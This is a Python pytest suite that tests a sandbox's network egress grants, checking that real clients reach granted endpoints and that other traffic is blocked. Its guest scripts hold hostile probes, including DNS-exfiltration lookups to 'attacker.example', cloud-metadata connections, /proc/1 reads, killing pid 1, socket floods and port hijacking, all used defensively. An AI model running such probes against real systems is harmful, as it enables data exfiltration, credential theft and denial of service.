"""Network grants: what is granted works with unmodified clients, and nothing else gets out."""

from __future__ import annotations

import hashlib
import http.server
import os
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import omnibase
from omnibase.core.events import (
    CapabilityGranted,
    EgressClosed,
    EgressFailed,
    EgressOpened,
)
from omnibase.core.sandbox import bundle
from omnibase.core.sandbox.egress import resolver, wire
from omnibase.errors import SandboxError
from tests.helpers import tls
from tests.helpers.egress import Names, echo, server, unused_port
from tests.security.harness import SandboxFixture

pytestmark = pytest.mark.egress

FULL = os.environ.get("OMNIBASE_EGRESS_FULL") == "1"
SEQUENTIAL, AT_ONCE, BULK = (10_000, 500, 1 << 30) if FULL else (1_000, 100, 64 << 20)
# What one run needs that keeps many connections, or their remains, in the guest's kernel.
ROOM = "MEMORY:200MiB"


@pytest.fixture
def echo_port() -> Iterator[int]:
    """A server on the host's loopback that sends back what it gets."""
    with server(echo) as port:
        yield port


def connect(*hosts: str | int) -> list[str]:
    """Grants for ports of the host's loopback, or for endpoints."""
    return [f"NETWORK_CONNECT:127.0.0.1:{h}" if isinstance(h, int) else f"NETWORK_CONNECT:{h}"
            for h in hosts]  # fmt: skip


TRY = b"""
import errno, json, socket, sys
def attempt(host, port, family=socket.AF_INET):
    try:
        with socket.socket(family) as client:
            client.settimeout(10)
            client.connect((host, port))
            client.sendall(b"hello")
            answer = client.recv(5)
            return answer.decode() or "closed"
    except TimeoutError:
        return "timeout"
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)
print(json.dumps({f"{h}:{p}": attempt(h, int(p), socket.AF_INET6 if ":" in h else socket.AF_INET)
                  for h, p in (a.rsplit(":", 1) for a in sys.argv[1:])}))
"""


@pytest.mark.threat("T-EXEC-07")
class TestWhatIsGranted:
    def test_an_address_and_only_its_port(self, sandbox: SandboxFixture, echo_port: int) -> None:
        with server(echo) as other:
            here = [f"127.0.0.1:{echo_port}", f"127.0.0.1:{other}"]
            outcome = sandbox.source(TRY, connect(echo_port), args=here, on_violation="record")
            twin = sandbox.source(TRY, connect(echo_port, other), args=here)

        assert outcome.report == {here[0]: "hello", here[1]: "ECONNREFUSED"}
        outcome.assert_violation(f"NETWORK_CONNECT:{here[1]}", operation="connect")
        assert len(outcome.violations) == 1
        twin.assert_clean()
        assert set(twin.report.values()) == {"hello"}

    def test_ipv6(self, sandbox: SandboxFixture) -> None:
        with server(echo, "::1") as port, server(echo, "::1") as other:
            here = [f"::1:{port}", f"::1:{other}"]
            outcome = sandbox.source(
                TRY, connect(f"[::1]:{port}"), args=here, on_violation="record"
            )
        assert list(outcome.report.values()) == ["hello", "ECONNREFUSED"]
        outcome.assert_violation(f"NETWORK_CONNECT:[::1]:{other}", operation="connect")

    def test_an_address_of_the_host(
        self, sandbox: SandboxFixture, host_address: str, echo_port: int
    ) -> None:
        with server(echo, host_address) as port:
            outcome = sandbox.source(
                TRY,
                connect(f"{host_address}:{port}"),
                args=[f"{host_address}:{port}", f"{host_address}:{echo_port}"],
                on_violation="record",
            )
        assert list(outcome.report.values()) == ["hello", "ECONNREFUSED"]
        outcome.assert_violation(f"NETWORK_CONNECT:{host_address}:{echo_port}")

    def test_a_range_of_ports(self, sandbox: SandboxFixture, echo_port: int) -> None:
        low = max(1024, echo_port - 3)
        outcome = sandbox.source(
            TRY,
            connect(f"127.0.0.1:{low}-{echo_port}"),
            args=[f"127.0.0.1:{echo_port}", f"127.0.0.1:{echo_port + 1}"],
            on_violation="record",
        )
        assert list(outcome.report.values()) == ["hello", "ECONNREFUSED"]
        outcome.assert_violation(f"NETWORK_CONNECT:127.0.0.1:{echo_port + 1}")

    def test_names_and_wildcards(
        self, sandbox: SandboxFixture, names: Names, echo_port: int
    ) -> None:
        names({"db.example": ["127.0.0.1"], "a.b.wild.example": ["127.0.0.1"]})
        p = echo_port
        outcome = sandbox.source(
            TRY,
            # The literal grant is what lets a name of the test stand for the loopback.
            connect(f"db.example:{p}", f"*.wild.example:{p}", p),
            args=[f"db.example:{p}", f"a.b.wild.example:{p}", f"DB.EXAMPLE:{p}", f"localhost:{p}",
                  f"db.example:{p + 1}", f"a.b.wild.example:{p + 1}", f"wild.example:{p}",
                  f"evil.example:{p}"],
            on_violation="record",
        )  # fmt: skip
        assert list(outcome.report.values()) == [
            "hello", "hello", "hello", "hello", "ECONNREFUSED", "ECONNREFUSED", "gaierror",
            "gaierror",
        ]  # fmt: skip
        outcome.assert_violation(f"NETWORK_CONNECT:db.example:{p + 1}", operation="connect")
        outcome.assert_violation(f"NETWORK_CONNECT:a.b.wild.example:{p + 1}", operation="connect")
        for name in ("wild.example", "evil.example"):
            outcome.assert_violation(
                f"NETWORK_CONNECT:{name}:*", operation="lookup", evidence="broker"
            )
        assert len(outcome.violations) == 4

    def test_any_host(
        self, sandbox: SandboxFixture, names: Names, host_address: str, echo_port: int
    ) -> None:
        """Names and public addresses; what is special stays closed, each port by itself."""
        p = echo_port
        names({"any.example": ["127.0.0.1"], "inner.example": [host_address]})
        twin = sandbox.source(TRY, connect(f"*:{p}", p), args=[f"any.example:{p}"])
        twin.assert_clean()
        assert list(twin.report.values()) == ["hello"]
        outcome = sandbox.source(
            TRY,
            connect(f"*:{p}", p),
            args=[f"any.example:{p}", f"127.0.0.1:{p}", f"inner.example:{p}",
                  f"{host_address}:{p}", f"169.254.169.254:{p}", f"any.example:{p + 1}",
                  f"8.8.8.8:{p + 1}"],
            on_violation="record",
        )  # fmt: skip
        assert list(outcome.report.values()) == [
            "hello", "hello", "ECONNRESET", "ECONNRESET", "ECONNRESET", "ECONNREFUSED",
            "ECONNREFUSED",
        ]  # fmt: skip
        for host in ("inner.example", host_address, "169.254.169.254"):
            outcome.assert_violation(f"NETWORK_CONNECT:{host}:{p}", evidence="broker")
        outcome.assert_violation(f"NETWORK_CONNECT:any.example:{p + 1}")
        outcome.assert_violation(f"NETWORK_CONNECT:8.8.8.8:{p + 1}")

    def test_events_tell_each_connection(
        self, sandbox: SandboxFixture, names: Names, echo_port: int
    ) -> None:
        names({"db.example": ["127.0.0.1"]})
        down = unused_port()
        grants = connect(f"db.example:{echo_port}", echo_port, down)
        outcome = sandbox.source(TRY, grants, args=[f"db.example:{echo_port}", f"127.0.0.1:{down}"])
        outcome.assert_clean()
        assert outcome.report[f"127.0.0.1:{down}"] == "ECONNRESET"
        (opened,) = outcome.reported(EgressOpened)
        (closed,) = outcome.reported(EgressClosed)
        (failed,) = outcome.reported(EgressFailed)
        assert (opened.target, opened.address) == (f"db.example:{echo_port}", "127.0.0.1")
        assert opened.capability == grants[0]
        assert (closed.sent_bytes, closed.received_bytes) == (5, 5)
        assert closed.connection == opened.connection
        assert failed.reason == "connection refused"
        how = {e.capability: e.enforcement for e in outcome.reported(CapabilityGranted)}
        assert "broker" in how[grants[0]]


@pytest.mark.threat("T-EXEC-07")
class TestNothingElse:
    def test_a_name_that_stands_for_an_inner_address(
        self, sandbox: SandboxFixture, names: Names, host_address: str
    ) -> None:
        """DNS rebinding: whoever grants a name has not granted the host's own services."""
        with server(echo, host_address) as port:
            names({"rebound.example": [host_address], "meta.example": ["169.254.169.254"]})
            caps = connect(f"*.example:{port}")
            args = [f"rebound.example:{port}", f"meta.example:{port}"]
            outcome = sandbox.source(TRY, caps, args=args, on_violation="record")
            twin = sandbox.source(TRY, [*caps, *connect(f"{host_address}:{port}")], args=args[:1])
        assert set(outcome.report.values()) == {"ECONNRESET"}
        found = outcome.assert_violation(
            f"NETWORK_CONNECT:rebound.example:{port}", evidence="broker"
        )
        assert found.reason is not None
        assert host_address in found.reason
        twin.assert_clean()
        assert list(twin.report.values()) == ["hello"]

    def test_the_checked_address_is_the_one_that_is_used(
        self, sandbox: SandboxFixture, monkeypatch: pytest.MonkeyPatch, echo_port: int
    ) -> None:
        answers = iter(["127.0.0.1", "169.254.169.254"])
        monkeypatch.setattr(resolver, "look_up", lambda _name: [next(answers)])
        outcome = sandbox.source(
            TRY, connect(f"db.example:{echo_port}", echo_port), args=[f"db.example:{echo_port}"]
        )
        outcome.assert_clean()
        assert list(answers) == ["169.254.169.254"]

    @pytest.mark.threat("T-EXEC-06")
    def test_all_the_old_ways_out_stay_closed(
        self, sandbox: SandboxFixture, host_address: str, echo_port: int
    ) -> None:
        with (
            socket.create_server((host_address, 0)) as tcp,
            socket.socket(type=socket.SOCK_DGRAM) as udp,
        ):
            udp.bind((host_address, 0))
            ports = str(tcp.getsockname()[1]), str(udp.getsockname()[1])
            outcome = sandbox(
                "reach_out", connect(echo_port), args=[host_address, *ports], on_violation="record"
            )
            for each in (tcp, udp):
                each.setblocking(False)
            with pytest.raises(BlockingIOError):
                tcp.accept()
            with pytest.raises(BlockingIOError):
                udp.recv(1)
        assert "connected" not in outcome.report.values()
        assert "added" not in outcome.report.values()
        for host in (host_address, "203.0.113.7", "169.254.169.254"):
            outcome.assert_violation(f"NETWORK_CONNECT:{host}:{ports[0]}", operation="connect")
        outcome.assert_violation(
            "NETWORK_CONNECT:host.example:443", operation="lookup", evidence="broker"
        )

    def test_a_datagram_goes_nowhere(self, sandbox: SandboxFixture, host_address: str) -> None:
        """With a grant for any host the guest's own kernel takes datagrams for all addresses."""
        with socket.socket(type=socket.SOCK_DGRAM) as udp:
            udp.bind((host_address, 0))
            port = udp.getsockname()[1]
            outcome = sandbox.source(
                b"import socket, sys\n"
                b"client = socket.socket(type=socket.SOCK_DGRAM)\n"
                b"client.connect((sys.argv[1], int(sys.argv[2])))\n"
                b"client.send(b'x')\n",
                connect("*:443"),
                args=[host_address, str(port)],
                on_violation="record",
            )
            udp.setblocking(False)
            with pytest.raises(BlockingIOError):
                udp.recv(1)
        outcome.assert_violation(f"NETWORK_CONNECT:{host_address}:{port}", operation="connect")

    def test_names_never_leave_the_guest(
        self, sandbox: SandboxFixture, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        asked: list[str] = []

        def look_up(name: str) -> list[str]:
            asked.append(name)
            return []

        monkeypatch.setattr(resolver, "look_up", look_up)
        outcome = sandbox.source(
            b"""
import socket, struct
for n in range(50):
    try: socket.gethostbyname(f"secret-{n}.attacker.example")
    except OSError: pass
client = socket.socket(type=socket.SOCK_DGRAM)
client.settimeout(5)
client.connect(("192.0.2.53", 53))
odd = [b"\\xff\\x00" * 20, b"a.granted.example"[:17], b"CaSe", b"x" * 63]
for label in odd:
    question = bytes([len(label)]) + label + b"\\x07granted\\x07example\\x00" + b"\\0\\1\\0\\1"
    client.send(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + question)
    print(client.recv(512)[3] & 15)
""",
            connect("granted.example:443"),
            on_violation="record",
        )
        assert outcome.stdout.split() == ["3", "3", "3", "3"]
        assert asked == []
        assert len(outcome.violations) == 54
        assert {v.evidence for v in outcome.violations} == {"broker"}
        outcome.assert_violation("NETWORK_CONNECT:secret-7.attacker.example:*", evidence="broker")
        assert all(v.resource.isprintable() for v in outcome.violations)

    @pytest.mark.threat("T-EXEC-08")
    def test_the_channel_is_out_of_the_scripts_reach(
        self, sandbox: SandboxFixture, echo_port: int
    ) -> None:
        outcome = sandbox.source(
            b"""
import json, os, resource, stat
report = {"descriptors": sorted(os.listdir("/proc/self/fd")),
          "limit": resource.getrlimit(resource.RLIMIT_NOFILE)}
found = []
for top, _, names in os.walk("/"):
    for name in names:
        try:
            if stat.S_ISSOCK(os.lstat(os.path.join(top, name)).st_mode):
                found.append(os.path.join(top, name))
        except OSError: pass
report["sockets"] = found
import socket
def attempt(action):
    try: return str(action())
    except OSError as error: return type(error).__name__
for n in range(4, 12):
    report[f"open {n}"] = attempt(lambda: os.open(f"/proc/1/fd/{n}", os.O_RDWR))
    report[f"connect {n}"] = attempt(
        lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(f"/proc/1/fd/{n}"))
report["mem"] = attempt(lambda: open("/proc/1/mem", "rb").read(1))
try: os.kill(1, 9); report["kill"] = "sent"
except OSError as error: report["kill"] = type(error).__name__
print(json.dumps(report))
""",
            connect(echo_port),
            on_violation="record",
        )
        report = outcome.report
        assert set(report["descriptors"]) <= {"0", "1", "2", "3"}  # 3: the listing's own
        assert report["limit"] == [1024, 1024]
        assert report["sockets"] == []
        refused = {"PermissionError", "FileNotFoundError", "OSError", "ConnectionRefusedError"}
        attempts = {what: told for what, told in report.items() if isinstance(told, str)}
        assert len(attempts) == 18
        assert set(attempts.values()) <= refused, attempts

    def test_a_granted_tree_with_a_socket_of_the_host_in_it_is_no_way_out(
        self, sandbox: SandboxFixture, area: Path, echo_port: int
    ) -> None:
        path = area / "service.sock"
        with socket.socket(socket.AF_UNIX) as service:
            service.bind(str(path))
            path.chmod(0o777)
            service.listen()
            outcome = sandbox.source(
                b"import socket, sys\n"
                b"try: socket.socket(socket.AF_UNIX).connect(sys.argv[1])\n"
                b"except OSError as error: print(type(error).__name__)\n"
                b"else: print('connected')\n",
                [f"FILE_WRITE:{area}/**", *connect(echo_port)],
                args=[str(path)],
                on_violation="record",
            )
            service.setblocking(False)
            with pytest.raises(BlockingIOError):
                service.accept()
        assert outcome.stdout != "connected\n"

    @pytest.mark.threat("T-EXEC-16")
    def test_another_sandbox_is_out_of_reach(
        self, sandbox: SandboxFixture, host_address: str, echo_port: int
    ) -> None:
        port = unused_port()
        started = threading.Event()
        listening = (
            b"import socket, sys, time\n"
            b"server = socket.create_server(('0.0.0.0', int(sys.argv[1])))\n"
            b"client = socket.create_connection(('127.0.0.1', int(sys.argv[2])))\n"
            b"server.settimeout(4)\n"
            b"try: server.accept(); print('reached')\n"
            b"except TimeoutError: print('alone')\n"
        )
        outcomes = []

        def notice(connection: socket.socket) -> None:
            started.set()
            connection.recv(1)

        with server(notice) as signal:
            thread = threading.Thread(
                target=lambda: outcomes.append(
                    sandbox.source(listening, connect(signal), args=[str(port), str(signal)])
                )
            )
            thread.start()
            assert started.wait(20)
            probe = sandbox.source(
                TRY,
                connect(echo_port),
                args=[f"127.0.0.1:{port}", f"{host_address}:{port}"],
                on_violation="record",
            )
            thread.join(30)
        assert set(probe.report.values()) <= {"ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH"}
        assert outcomes[0].stdout == "alone\n"


@pytest.mark.threat("T-EXEC-07")
class TestRealClients:
    @pytest.fixture
    def https(self, tmp_path: Path) -> Iterator[tuple[int, str]]:
        """A server with a certificate for `api.example`; its port, and the authority's PEM."""
        context, authority = tls.certificate(tmp_path, "api.example")

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                body = f"{self.path} for {self.headers['Host']}".encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                digest = hashlib.sha256(body).hexdigest().encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(digest)))
                self.end_headers()
                self.wfile.write(digest)

            def log_message(self, *_: object) -> None:
                pass

        with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as web:
            web.daemon_threads = True
            web.socket = context.wrap_socket(web.socket, server_side=True)
            thread = threading.Thread(target=web.serve_forever)
            thread.start()
            try:
                yield web.server_address[1], authority
            finally:
                web.shutdown()
                thread.join()

    def test_https_with_name_verification(
        self, sandbox: SandboxFixture, names: Names, https: tuple[int, str]
    ) -> None:
        port, authority = https
        names({"api.example": ["127.0.0.1"], "other.example": ["127.0.0.1"]})
        outcome = sandbox.source(
            b"""
import hashlib, http.client, ssl, sys, urllib.error, urllib.request
port, trust = int(sys.argv[1]), ssl.create_default_context(cadata=sys.stdin.read())
print(urllib.request.urlopen(f"https://api.example:{port}/x", context=trust).read().decode())
client = http.client.HTTPSConnection("api.example", port, context=trust)
for n in range(3):  # one connection, kept alive
    body = bytes([n]) * 300_000
    client.request("POST", "/", body)
    print(client.getresponse().read().decode() == hashlib.sha256(body).hexdigest())
try: urllib.request.urlopen(f"https://other.example:{port}/", context=trust)
except urllib.error.URLError as error: print(type(error.reason).__name__)
""",
            [*connect(f"*.example:{port}", port), "MEMORY:100MiB"],
            args=[str(port)],
            stdin=authority.encode(),
        )
        outcome.assert_clean()
        assert outcome.stdout.splitlines() == [
            f"/x for api.example:{port}", "True", "True", "True", "SSLCertVerificationError",
        ]  # fmt: skip

    def test_https_to_what_is_not_granted(
        self, sandbox: SandboxFixture, https: tuple[int, str]
    ) -> None:
        outcome = sandbox.source(
            b"import sys, urllib.request\n"
            b"urllib.request.urlopen(f'https://api.example:{sys.argv[1]}/x', timeout=10)\n",
            [*connect("other.example:443"), "MEMORY:100MiB"],
            args=[str(https[0])],
        )
        outcome.assert_raised()
        outcome.assert_violation(
            f"NETWORK_CONNECT:api.example:{https[0]}", operation="lookup", evidence="broker"
        )
        assert f"NETWORK_CONNECT:api.example:{https[0]} is not granted" in (
            outcome.finished.stderr.decode()
        )

    def test_smtplib(self, sandbox: SandboxFixture) -> None:
        mails: list[bytes] = []

        def smtp(connection: socket.socket) -> None:
            with connection.makefile("rwb") as file:

                def say(text: bytes) -> None:
                    file.write(text + b"\r\n")
                    file.flush()

                say(b"220 mail.example")
                for line in file:
                    verb = line[:4].upper()
                    if verb == b"DATA":
                        say(b"354 go on")
                        body = b""
                        while not body.endswith(b"\r\n.\r\n"):
                            body += file.readline()
                        mails.append(body)
                    say(b"221 bye" if verb == b"QUIT" else b"250 ok")
                    if verb == b"QUIT":
                        return

        with server(smtp) as port:
            sandbox.source(
                b"import smtplib, sys\n"
                b"with smtplib.SMTP('127.0.0.1', int(sys.argv[1]), timeout=10) as client:\n"
                b"    body = 'Subject: hi' + chr(10) * 2 + 'x' * 90000\n"
                b"    client.sendmail('a@a.example', ['b@b.example'], body)\n",
                [*connect(port), "MEMORY:100MiB"],
                args=[str(port)],
            ).assert_clean()
        assert len(mails) == 1
        assert mails[0].count(b"x") == 90000

    def test_asyncio_many_at_once(self, sandbox: SandboxFixture, echo_port: int) -> None:
        outcome = sandbox.source(
            b"""
import asyncio, sys
async def one(n):
    reader, writer = await asyncio.open_connection("127.0.0.1", int(sys.argv[1]))
    message = b"%d." % n * 2000
    writer.write(message); writer.write_eof()
    answer = await reader.read(-1)
    writer.close()
    return answer == message
async def main():
    print(all(await asyncio.gather(*(one(n) for n in range(int(sys.argv[2]))))))
asyncio.run(main())
""",
            [*connect(echo_port), ROOM],
            args=[str(echo_port), str(AT_ONCE)],
            wall_seconds=120,
        )
        outcome.assert_clean()
        assert outcome.stdout == "True\n"
        assert len(outcome.reported(EgressClosed)) == AT_ONCE


@pytest.mark.threat("T-EXEC-07")
class TestConnections:
    def test_half_close_resets_and_slow_peers(self, sandbox: SandboxFixture) -> None:
        def count(connection: socket.socket) -> None:
            size = 0
            while data := connection.recv(4096):
                size += len(data)
            connection.sendall(b"%d" % size)

        def reset(connection: socket.socket) -> None:
            connection.recv(1)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")

        def slow(connection: socket.socket) -> None:
            for part in (b"a", b"b", b"c"):
                time.sleep(0.2)
                connection.sendall(part)

        with server(count) as one, server(reset) as two, server(slow) as three:
            outcome = sandbox.source(
                b"""
import json, socket, sys
one, two, three = map(int, sys.argv[1:])
report = {}
with socket.create_connection(("127.0.0.1", one)) as client:
    client.sendall(bytes(1_000_000)); client.shutdown(socket.SHUT_WR)
    report["half"] = client.recv(100).decode()
with socket.create_connection(("127.0.0.1", two)) as client:
    client.sendall(b"x")
    try: report["reset"] = client.recv(1).decode()
    except ConnectionResetError: report["reset"] = "ECONNRESET"
with socket.create_connection(("127.0.0.1", three)) as client:
    text = b""
    while part := client.recv(10): text += part
    report["slow"] = text.decode()
print(json.dumps(report))
""",
                connect(one, two, three),
                args=[str(one), str(two), str(three)],
            )
        outcome.assert_clean()
        assert outcome.report == {"half": "1000000", "reset": "ECONNRESET", "slow": "abc"}

    def test_one_after_the_other(self, sandbox: SandboxFixture, echo_port: int) -> None:
        outcome = sandbox.source(
            b"""
import socket, sys
for n in range(int(sys.argv[2])):
    with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as client:
        client.sendall(b"%d" % n)
        assert client.recv(10) == b"%d" % n
""",
            [*connect(echo_port), ROOM if not FULL else "MEMORY:250MiB"],
            args=[str(echo_port), str(SEQUENTIAL)],
            wall_seconds=300,
        )
        outcome.assert_clean()
        assert len(outcome.reported(EgressOpened)) == SEQUENTIAL
        assert len(outcome.reported(EgressClosed)) == SEQUENTIAL

    def test_in_bulk_both_ways(self, sandbox: SandboxFixture) -> None:
        def mirror(connection: socket.socket) -> None:
            digest, size = hashlib.sha256(), 0
            while data := connection.recv(1 << 18):
                digest.update(data)
                size += len(data)
            connection.sendall(digest.digest())
            block = bytes(range(256)) * 1024
            for _ in range(size // len(block)):
                connection.sendall(block)

        with server(mirror) as port:
            outcome = sandbox.source(
                b"""
import hashlib, socket, sys
total = int(sys.argv[2])
block = bytes(range(256)) * 1024
want = hashlib.sha256()
with socket.create_connection(("127.0.0.1", int(sys.argv[1]))) as client:
    for _ in range(total // len(block)):
        client.sendall(block); want.update(block)
    client.shutdown(socket.SHUT_WR)
    with client.makefile("rb") as file:
        print(file.read(32) == want.digest())
        got = hashlib.sha256()
        while data := file.read(len(block)): got.update(data)
        print(got.digest() == want.digest())
""",
                [*connect(port), ROOM],
                args=[str(port), str(BULK)],
                wall_seconds=300,
            )
        outcome.assert_clean()
        assert outcome.stdout == "True\nTrue\n"
        (closed,) = outcome.reported(EgressClosed)
        assert (closed.sent_bytes, closed.received_bytes) == (BULK, BULK + 32)
        assert closed.reason == "end"

    def test_what_was_sent_just_before_the_end_arrives(self, sandbox: SandboxFixture) -> None:
        got: list[int] = []

        def slow(connection: socket.socket) -> None:
            size = 0
            while data := connection.recv(65536):
                size += len(data)
                time.sleep(0.001)
            got.append(size)

        with server(slow) as port:
            sandbox.source(
                b"import socket, sys\n"
                b"client = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
                b"client.sendall(bytes(3000000))\n",
                connect(port),
                args=[str(port)],
            ).assert_clean()
            deadline = time.monotonic() + 10
            while not got and time.monotonic() < deadline:
                time.sleep(0.02)
        assert got == [3_000_000]

    def test_the_end_of_a_run_ends_its_connections(self, sandbox: SandboxFixture) -> None:
        ended = threading.Event()

        def wait(connection: socket.socket) -> None:
            try:
                connection.recv(1)
            finally:
                ended.set()

        with server(wait) as port:
            outcome = sandbox.source(
                b"import socket, sys, time\n"
                b"client = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
                b"time.sleep(60)\n",
                connect(port),
                args=[str(port)],
                wall_seconds=4.0,
            )
            assert ended.wait(10)
        assert isinstance(outcome.error, omnibase.SandboxTimeout)
        (closed,) = outcome.reported(EgressClosed)
        assert closed.reason in ("run", "end")


@pytest.mark.threat("T-EXEC-08")
class TestHostile:
    def test_garbage_on_all_that_can_be_reached(
        self, sandbox: SandboxFixture, echo_port: int
    ) -> None:
        outcome = sandbox.source(
            b"""
import os, socket, struct, sys
port = int(sys.argv[1])
client = socket.socket(type=socket.SOCK_DGRAM)
client.connect(("192.0.2.53", 53))
for n in range(3000):
    client.send(os.urandom(n % 700))
for n in range(200):
    head = struct.pack(">HHHHHH", n, 256, 1, 0, 0, 0)
    client.send(head + os.urandom(n))
for n in range(50):
    with socket.create_connection(("127.0.0.1", port)) as tcp:
        tcp.send(os.urandom(50))
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
with socket.create_connection(("127.0.0.1", port)) as tcp:
    tcp.sendall(b"still there")
    print(tcp.recv(20))
""",
            [*connect(echo_port), "MEMORY:100MiB"],
            args=[str(echo_port)],
            on_violation="record",
        )
        assert outcome.error is None
        assert outcome.stdout == "b'still there'\n", outcome.finished.stderr
        assert {v.operation for v in outcome.violations} <= {"lookup"}

    def test_a_flood_of_sockets_harms_only_its_own_run(
        self, sandbox: SandboxFixture, echo_port: int
    ) -> None:
        flood = b"""
import os, socket, sys
children = []
for _ in range(10):
    pid = os.fork()
    if not pid:
        kept = []
        for _ in range(1000):
            try:
                client = socket.socket(); client.settimeout(1)
                client.connect(("127.0.0.1", int(sys.argv[1]))); kept.append(client)
            except OSError: pass
        os._exit(0)
    children.append(pid)
for pid in children: os.waitpid(pid, 0)
print("done")
"""
        outcomes = []
        thread = threading.Thread(
            target=lambda: outcomes.append(
                sandbox.source(
                    flood, [*connect(echo_port), "MEMORY:250MiB"], args=[str(echo_port)],
                    wall_seconds=120, on_violation="record",
                )
            )
        )  # fmt: skip
        thread.start()
        for _ in range(3):
            other = sandbox.source(TRY, connect(echo_port), args=[f"127.0.0.1:{echo_port}"])
            other.assert_clean()
            assert list(other.report.values()) == ["hello"]
        thread.join(150)
        assert outcomes[0].stdout == "done\n", (outcomes[0].error, outcomes[0].result)

    def test_a_script_that_stalls_is_ended_with_its_run(self, sandbox: SandboxFixture) -> None:
        """It takes nothing of what comes: the peer is held back, and nothing piles up."""
        sent: list[int] = []

        def gush(connection: socket.socket) -> None:
            size = 0
            try:
                while True:
                    size += connection.send(bytes(65536))
            except OSError:
                sent.append(size)

        with server(gush) as port:
            outcome = sandbox.source(
                b"import socket, sys, time\n"
                b"target = '127.0.0.1', int(sys.argv[1])\n"
                b"kept = [socket.create_connection(target) for _ in range(20)]\n"
                b"time.sleep(60)\n",
                [*connect(port), ROOM],
                args=[str(port)],
                wall_seconds=3,
            )
            deadline = time.monotonic() + 10
            while len(sent) < 20 and time.monotonic() < deadline:
                time.sleep(0.02)
        assert isinstance(outcome.error, omnibase.SandboxTimeout)
        assert len(sent) == 20
        assert max(sent) < 32 << 20

    def test_kill_at_the_first_violation(self, sandbox: SandboxFixture, echo_port: int) -> None:
        outcome = sandbox.source(
            b"import socket, time\n"
            b"try: socket.gethostbyname('evil.example')\n"
            b"except OSError: pass\n"
            b"time.sleep(20)\n",
            connect(echo_port),
            on_violation="kill",
        )
        outcome.assert_raised()
        outcome.assert_violation("NETWORK_CONNECT:evil.example:*", evidence="broker")
        assert outcome.finished.usage.wall_seconds < 15

    def test_the_script_cannot_take_the_agents_place(
        self, sandbox: SandboxFixture, echo_port: int
    ) -> None:
        """Binding over a granted port, or to the name server's, changes nothing for others."""
        outcome = sandbox.source(
            b"""
import socket, sys
port = int(sys.argv[1])
for kind, address in ((socket.SOCK_STREAM, ("127.0.0.1", port)),
                      (socket.SOCK_STREAM, ("0.0.0.0", port)),
                      (socket.SOCK_DGRAM, ("192.0.2.53", 53)),
                      (socket.SOCK_DGRAM, ("0.0.0.0", 53))):
    thief = socket.socket(socket.AF_INET, kind)
    thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    thief.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
        thief.bind(address)
        if kind == socket.SOCK_STREAM: thief.listen()
        print("bound", address)
    except OSError as error: print(type(error).__name__)
with socket.create_connection(("127.0.0.1", port), timeout=5) as client:
    client.sendall(b"mine"); print(client.recv(4))
""",
            connect(echo_port),
            args=[str(echo_port)],
            on_violation="record",
        )
        assert outcome.stdout.splitlines()[-1] == "b'mine'"
        assert outcome.finished.exit_code == 0

    def test_a_guest_that_does_not_keep_to_the_protocol_is_ended(
        self, sandbox: SandboxFixture, echo_port: int, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Here the guest is right and the host another version: to the host it is the same."""
        monkeypatch.setattr(wire, "VERSION", 2)
        outcome = sandbox.source(b"import time; time.sleep(20)", connect(echo_port))
        assert isinstance(outcome.error, SandboxError)
        assert "network channel of the sandbox is malformed: version 1" in str(outcome.error)
        assert outcome.finished.usage.wall_seconds < 15

    def test_without_its_network_the_script_does_not_start(
        self, sandbox: SandboxFixture, echo_port: int, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        rows = ["999.0.0.1", "999.0.0.1", "80", "80"]
        monkeypatch.setattr(bundle, "agent_rows", lambda _grants: rows)
        outcome = sandbox.source(b"print('started')", connect(echo_port))
        assert isinstance(outcome.error, SandboxError)
        assert "network was not set up" in str(outcome.error)
        assert outcome.stdout == ""
